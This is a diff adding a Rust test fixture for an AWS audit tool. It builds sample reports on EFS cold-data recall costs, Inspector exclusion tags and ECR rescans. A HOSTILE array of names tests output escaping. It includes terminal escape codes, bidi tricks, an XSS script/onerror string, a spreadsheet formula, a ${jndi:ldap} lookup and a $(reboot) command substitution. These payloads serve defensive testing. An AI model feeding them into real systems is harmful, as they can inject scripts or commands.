@@ -1,0 +1,402 @@
+//! One set of findings for all formats: every severity, confidence and basis, gaps, and names that attack.
+
+use chrono::{DateTime, Utc};
+use inspector_audit::model::{GapReason, SectionName};
+use inspector_audit::price::{PriceTable, Usd};
+use inspector_audit::report::{Report, ReportBuilder, TargetId};
+use inspector_audit::rules::{
+    Basis, Condition, ConditionState, Confidence, Cost, CostLine, Evaluation, Evidence, Exclusion, Finding, GapReport,
+    InstanceCounts, InstanceRef, Inventory, MonthlyUsd, MountState, Remediation, Resource, RuleVerdict, Severity,
+    Verdict, fingerprint,
+};
+use rust_decimal::Decimal;
+
+const ACCOUNT: &str = "111122223333";
+const OTHER: &str = "444455556666";
+const TOKYO: &str = "ap-northeast-1";
+const VIRGINIA: &str = "us-east-1";
+
+/// Names as an attacker, or an unlucky colleague, may choose them.
+pub(crate) const HOSTILE: [&str; 8] = [
+    "red\u{1b}[31malert\u{7}\u{9b}2J\u{0}",
+    "\u{202e}gpj.stnemyap\u{2066}\u{200f}",
+    "<script>alert('1')</script><img src=x onerror=alert(2)>&amp;\"",
+    "| **bold** [link](javascript:alert(3)) `code` ![pixel](http://example.com/p.png) @team <!-- \n# heading",
+    "=HYPERLINK(\"http://example.com\",\"pay\")",
+    "]]><failure/>\u{fffe}\u{b}\u{2028}",
+    "${jndi:ldap://example.com} $(reboot) %s %n {{7*7}}",
+    "共有ファイルシステム（本番）",
+];
+
+/// A name of four thousand characters.
+pub(crate) fn endless() -> String {
+    "endless-".repeat(500)
+}
+
+/// When the sample was taken.
+pub(crate) fn taken_at() -> DateTime<Utc> {
+    "2026-11-21T03:04:05Z".parse().expect("a time")
+}
+
+fn usd(text: &str) -> Usd {
+    Usd(text.parse().expect("an amount"))
+}
+
+fn number(text: &str) -> Decimal {
+    text.parse().expect("a number")
+}
+
+/// The sample.
+pub(crate) fn sample() -> Report {
+    let mut builder = ReportBuilder::new("aws", PriceTable::embedded().provenance().clone());
+    let tokyo = Evaluation {
+        findings: vec![recall(), cold_reads(), ineffective_tag(), pinned(), unpriced(), overlap()],
+        verdicts: verdicts(ACCOUNT, TOKYO),
+        gaps: gaps(),
+        inventory: Inventory {
+            instances: 1_240,
+            file_systems: 4,
+            repositories: 12,
+            file_systems_exposed_if_scanned: 0,
+        },
+    };
+    builder.add(TargetId { account: ACCOUNT.to_owned(), region: TOKYO.to_owned() }, taken_at(), tokyo);
+    let virginia = Evaluation {
+        findings: vec![rescans(), all_types()],
+        verdicts: verdicts(OTHER, VIRGINIA),
+        gaps: Vec::new(),
+        inventory: Inventory { instances: 3, file_systems: 2, repositories: 40, file_systems_exposed_if_scanned: 2 },
+    };
+    builder.add(TargetId { account: OTHER.to_owned(), region: VIRGINIA.to_owned() }, taken_at(), virginia);
+    let mut report = builder.build();
+    // Golden files outlive releases.
+    report.tool.version = "0.0.0".into();
+    report.summary.suppressed = 2;
+    report
+}
+
+/// The report of an account that has nothing to find.
+pub(crate) fn empty() -> Report {
+    let mut builder = ReportBuilder::new("aws", PriceTable::embedded().provenance().clone());
+    let verdict = |rule: &str, verdict| RuleVerdict {
+        account: ACCOUNT.to_owned(),
+        region: TOKYO.to_owned(),
+        rule: rule.to_owned(),
+        verdict,
+    };
+    let evaluation = Evaluation {
+        verdicts: vec![
+            verdict("ecr-continuous-scan", Verdict::NotApplicable),
+            verdict("efs-cold-read-charges", Verdict::Clean),
+            verdict("efs-tier-recall", Verdict::Clean),
+        ],
+        inventory: Inventory { instances: 1, file_systems: 1, ..Inventory::default() },
+        ..Evaluation::default()
+    };
+    builder.add(TargetId { account: ACCOUNT.to_owned(), region: TOKYO.to_owned() }, taken_at(), evaluation);
+    let mut report = builder.build();
+    report.tool.version = "0.0.0".into();
+    report
+}
+
+/// A report of that many findings, for formats that must stream.
+pub(crate) fn many(findings: usize) -> Report {
+    let mut report = sample();
+    let model = recall();
+    report.findings = (0..findings)
+        .map(|index| {
+            let mut finding = model.clone();
+            finding.resource.id = format!("fs-{index:017x}");
+            finding.fingerprint = fingerprint(&finding.rule, ACCOUNT, TOKYO, &finding.resource.id);
+            finding
+        })
+        .collect();
+    report.summary.findings.critical = u64::try_from(findings).expect("a count");
+    report
+}
+
+fn verdicts(account: &str, region: &str) -> Vec<RuleVerdict> {
+    let here = account == ACCOUNT;
+    let pick = |first, second| if here { first } else { second };
+    [
+        ("ecr-continuous-scan", pick(Verdict::Inconclusive, Verdict::Findings)),
+        ("ecr-inspector-auto-disable", Verdict::Clean),
+        ("ecr-scan-rules-overlap", pick(Verdict::Findings, Verdict::Clean)),
+        ("efs-cold-read-charges", pick(Verdict::Findings, Verdict::Clean)),
+        ("efs-tier-recall", pick(Verdict::Findings, Verdict::Clean)),
+        ("efs-tiering-pinned", pick(Verdict::Findings, Verdict::NotApplicable)),
+        ("exclusion-tag-ineffective", pick(Verdict::Findings, Verdict::NotApplicable)),
+        ("inspector-all-types-enabled", pick(Verdict::Inconclusive, Verdict::Findings)),
+    ]
+    .map(|(rule, verdict)| RuleVerdict {
+        account: account.to_owned(),
+        region: region.to_owned(),
+        rule: rule.to_owned(),
+        verdict,
+    })
+    .to_vec()
+}
+
+fn gaps() -> Vec<GapReport> {
+    let gap = |section, resource: Option<&str>, operation: &str, reason, message: &str, rules: &[&str]| GapReport {
+        account: ACCOUNT.to_owned(),
+        region: TOKYO.to_owned(),
+        section,
+        resource: resource.map(str::to_owned),
+        operation: operation.to_owned(),
+        reason,
+        message: message.to_owned(),
+        rules: rules.iter().map(|rule| (*rule).to_owned()).collect(),
+    };
+    vec![
+        gap(
+            SectionName::EcrRegistryScanning,
+            None,
+            "ecr:GetRegistryScanningConfiguration",
+            GapReason::AccessDenied,
+            "the credentials may not call ecr:GetRegistryScanningConfiguration: add that action to the policy that \
+             `inspector-audit iam-policy` prints",
+            &["ecr-continuous-scan", "inspector-all-types-enabled"],
+        ),
+        gap(
+            SectionName::EfsLifecycle,
+            Some("fs-0aaaaaaaaaaaaaaa1"),
+            "elasticfilesystem:DescribeLifecycleConfiguration",
+            GapReason::Throttled,
+            "throttled at every one of 5 attempts\u{1b}[2J: <b>try again</b> with a lower --concurrency",
+            &["efs-tier-recall"],
+        ),
+        gap(
+            SectionName::InspectorEcrImages,
+            None,
+            "inspector2:ListCoverageStatistics",
+            GapReason::NotEnabled,
+            "Inspector is not enabled here",
+            &[],
+        ),
+    ]
+}
+
+fn finding(rule: &str, kind: &str, id: &str, name: Option<&str>) -> Finding {
+    let service = if kind.contains("EFS") { "elasticfilesystem" } else { "ec2" };
+    Finding {
+        rule: rule.to_owned(),
+        severity: Severity::Low,
+        confidence: Confidence::High,
+        account: ACCOUNT.to_owned(),
+        region: TOKYO.to_owned(),
+        resource: Resource {
+            kind: kind.to_owned(),
+            id: id.to_owned(),
+            arn: Some(format!("arn:aws:{service}:{TOKYO}:{ACCOUNT}:resource/{id}")),
+            name: name.map(str::to_owned),
+        },
+        title: format!("{rule} on {id}"),
+        message: "What was seen, what it means and what it costs, in a few sentences.".to_owned(),
+        conditions: Vec::new(),
+        instances: Vec::new(),
+        instance_counts: InstanceCounts::default(),
+        cost: None,
+        evidence: Vec::new(),
+        remediation: Remediation::default(),
+        fingerprint: fingerprint(rule, ACCOUNT, TOKYO, id),
+    }
+}
+
+fn conditions(sixth: ConditionState) -> Vec<Condition> {
+    [
+        ("ssm_agent_installed", "2 instances have a row in DescribeInstanceInformation"),
+        ("ssm_managed", "both are Online"),
+        ("inspector_enabled", "the account's state is ENABLED"),
+        ("ec2_scanning_enabled", "resourceState.ec2 is ENABLED, deep inspection ACTIVATED"),
+        ("efs_mounted", "the mount target's groups admit both instances on TCP 2049"),
+        ("cold_data", "10,240 GiB in IA, nothing in Archive"),
+    ]
+    .into_iter()
+    .zip(1..)
+    .map(|((name, evidence), number)| Condition {
+        number,
+        name: name.to_owned(),
+        state: if number == 6 { sixth } else { ConditionState::Met },
+        evidence: evidence.to_owned(),
+    })
+    .collect()
+}
+
+fn line(item: &str, quantity: &str, unit: &str, price: &str, monthly: &str, once: &str) -> CostLine {
+    CostLine {
+        item: item.to_owned(),
+        quantity: number(quantity),
+        unit: unit.to_owned(),
+        unit_price_usd: number(price),
+        monthly_usd: usd(monthly),
+        one_time_usd: usd(once),
+        price_source: "AWS price list".to_owned(),
+        price_as_of: Some("2025-09-25".to_owned()),
+    }
+}
+
+fn recall() -> Finding {
+    let mut finding = finding("efs-tier-recall", "AWS::EFS::FileSystem", "fs-0123456789abcdef0", Some("home"));
+    finding.severity = Severity::Critical;
+    finding.confidence = Confidence::Low;
+    finding.title = "Inspector's scan can move 10,240 GiB of cold data back to Standard".into();
+    finding.message = "fs-0123456789abcdef0 (home) keeps 10,240 GiB in IA and returns files to Standard when they are \
+                       read. Two instances that Inspector's agent scans can reach it. AWS documents that deep \
+                       inspection skips network mounts; an account of AWS Support says that it does not."
+        .into();
+    finding.conditions = conditions(ConditionState::Met);
+    finding.instances = vec![
+        InstanceRef {
+            id: "i-0123456789abcdef0".to_owned(),
+            name: Some("web-1".to_owned()),
+            mount: MountState::Possible,
+            exclusion: Exclusion::None,
+        },
+        InstanceRef {
+            id: "i-0123456789abcdef1".to_owned(),
+            name: Some(HOSTILE[0].to_owned()),
+            mount: MountState::Possible,
+            exclusion: Exclusion::TagOnly,
+        },
+    ];
+    finding.instance_counts.possible = 1_204;
+    finding.cost = Some(Cost {
+        monthly_usd: MonthlyUsd { low: Usd::ZERO, likely: usd("3407.872"), high: usd("3407.872") },
+        one_time_usd: usd("245.76"),
+        basis: Basis::Bound,
+        assumptions: vec![
+            "one scan reads every cold file once (read fraction 1.0)".to_owned(),
+            "list prices, without a private agreement".to_owned(),
+        ],
+        lines: vec![
+            line("IA to Standard storage", "10240", "GiB-month", "0.3328", "3407.872", "0"),
+            line("reading from IA and moving out of it", "10240", "GiB", "0.024", "0", "245.76"),
+        ],
+    });
+    finding.evidence = vec![
+        Evidence::new("not_exposed", "3 instances are stopped, 1 is fully excluded"),
+        Evidence::new("reachability", "sg-0123456789abcdef0 admits 10.0.0.0/16 on TCP 2049"),
+    ];
+    finding.remediation = Remediation {
+        summary: "Exclude the instances from Inspector's scan: the tag InspectorEc2Exclusion and tags in instance \
+                  metadata, both. They then have no Inspector findings (Security Hub control Inspector.1)."
+            .to_owned(),
+        commands: vec![
+            "# does the scan touch the file system? (CloudWatch, one day)".to_owned(),
+            "aws cloudwatch get-metric-statistics --namespace AWS/EFS --metric-name DataReadIOBytes \\\n  --dimensions \
+             Name=FileSystemId,Value=fs-0123456789abcdef0 --period 3600 --statistics Sum"
+                .to_owned(),
+            "aws ec2 create-tags --resources i-0123456789abcdef0 --tags Key=InspectorEc2Exclusion,Value=".to_owned(),
+        ],
+    };
+    finding
+}
+
+fn cold_reads() -> Finding {
+    let mut finding =
+        finding("efs-cold-read-charges", "AWS::EFS::FileSystem", "fs-0aaaaaaaaaaaaaaa2", Some(HOSTILE[2]));
+    finding.severity = Severity::High;
+    finding.confidence = Confidence::Medium;
+    finding.message = format!("A file system called {} is read again and again.", HOSTILE[2]);
+    finding.conditions = conditions(ConditionState::Met);
+    finding.instance_counts = InstanceCounts { confirmed: 2, likely: 1, possible: 40 };
+    finding.cost = Some(Cost {
+        monthly_usd: MonthlyUsd { low: Usd::ZERO, likely: usd("288.5"), high: usd("1154.003217") },
+        one_time_usd: Usd::ZERO,
+        basis: Basis::Bound,
+        assumptions: vec!["120 scans a month: the association's schedule could not be read".to_owned()],
+        lines: vec![line("reading from IA", "24041.666667", "GiB", "0.012", "288.5", "0")],
+    });
+    finding.remediation.summary = format!("Detach {} from what the agent scans.", HOSTILE[3]);
+    finding.evidence = vec![Evidence::new("mount", HOSTILE[1])];
+    finding
+}
+
+fn ineffective_tag() -> Finding {
+    let mut finding =
+        finding("exclusion-tag-ineffective", "AWS::EC2::Instance", "i-0123456789abcdef1", Some(HOSTILE[0]));
+    finding.severity = Severity::Critical;
+    finding.confidence = Confidence::Medium;
+    finding.title = HOSTILE[4].into();
+    finding.message = HOSTILE[3].into();
+    finding.remediation = Remediation {
+        summary: HOSTILE[4].to_owned(),
+        commands: vec![format!("aws ec2 modify-instance-metadata-options # {}", HOSTILE[6])],
+    };
+    finding.evidence = vec![Evidence::new("tag", HOSTILE[5])];
+    finding
+}
+
+fn pinned() -> Finding {
+    let mut finding = finding("efs-tiering-pinned", "AWS::EFS::FileSystem", "fs-0aaaaaaaaaaaaaaa3", Some(HOSTILE[7]));
+    finding.severity = Severity::Medium;
+    finding.confidence = Confidence::Low;
+    finding.conditions = conditions(ConditionState::NotMet);
+    finding.instance_counts.likely = 1;
+    finding.cost = Some(Cost {
+        monthly_usd: MonthlyUsd { low: Usd::ZERO, likely: Usd::ZERO, high: usd("170.4") },
+        one_time_usd: Usd::ZERO,
+        basis: Basis::Bound,
+        assumptions: vec!["all of Standard would have become cold".to_owned()],
+        lines: Vec::new(),
+    });
+    finding.remediation.summary = "Ask CloudWatch (StorageBytes) what was once cold.".into();
+    finding
+}
+
+fn unpriced() -> Finding {
+    let name = endless();
+    let mut finding = finding("efs-tier-recall", "AWS::EFS::FileSystem", "fs-0aaaaaaaaaaaaaaa4", Some(&name));
+    finding.severity = Severity::Medium;
+    finding.confidence = Confidence::Low;
+    finding.message = format!("No price for AmazonEFS ia_storage_elastic: supply one with --prices. {name}");
+    finding.conditions = conditions(ConditionState::Unknown);
+    finding.instance_counts.possible = 1;
+    finding.remediation.summary = name;
+    finding
+}
+
+fn overlap() -> Finding {
+    let mut finding = finding("ecr-scan-rules-overlap", "AWS::ECR::Registry", ACCOUNT, None);
+    finding.severity = Severity::Low;
+    finding.evidence = vec![Evidence::new("repository", HOSTILE[6]), Evidence::new("repository", "team/app")];
+    finding.remediation.summary = "Keep one rule for each repository.".into();
+    finding
+}
+
+fn rescans() -> Finding {
+    let mut finding = finding("ecr-continuous-scan", "AWS::ECR::Registry", OTHER, None);
+    OTHER.clone_into(&mut finding.account);
+    VIRGINIA.clone_into(&mut finding.region);
+    finding.resource.arn = None;
+    finding.severity = Severity::High;
+    finding.cost = Some(Cost {
+        monthly_usd: MonthlyUsd { low: usd("412.03"), likely: usd("412.03"), high: usd("412.03") },
+        one_time_usd: Usd::ZERO,
+        basis: Basis::Measured,
+        assumptions: Vec::new(),
+        lines: vec![line("re-scans of container images", "41203", "re-scan", "0.01", "412.03", "0")],
+    });
+    finding.fingerprint = fingerprint(&finding.rule, OTHER, VIRGINIA, OTHER);
+    finding.remediation.summary = "Scan on push, and continuously only what runs.".into();
+    finding
+}
+
+fn all_types() -> Finding {
+    let mut finding = finding("inspector-all-types-enabled", "AWS::ECR::Registry", OTHER, None);
+    OTHER.clone_into(&mut finding.account);
+    VIRGINIA.clone_into(&mut finding.region);
+    finding.resource.arn = None;
+    finding.severity = Severity::Info;
+    finding.cost = Some(Cost {
+        monthly_usd: MonthlyUsd { low: usd("3.77"), likely: usd("3.77"), high: usd("3.77") },
+        one_time_usd: Usd::ZERO,
+        basis: Basis::ListPrice,
+        assumptions: Vec::new(),
+        lines: vec![line("agent-based scanning", "3", "instance-month", "1.258", "3.77", "0")],
+    });
+    finding.fingerprint = fingerprint(&finding.rule, OTHER, VIRGINIA, OTHER);
+    finding.remediation.summary = "Keep what you use.".into();
+    finding
+}
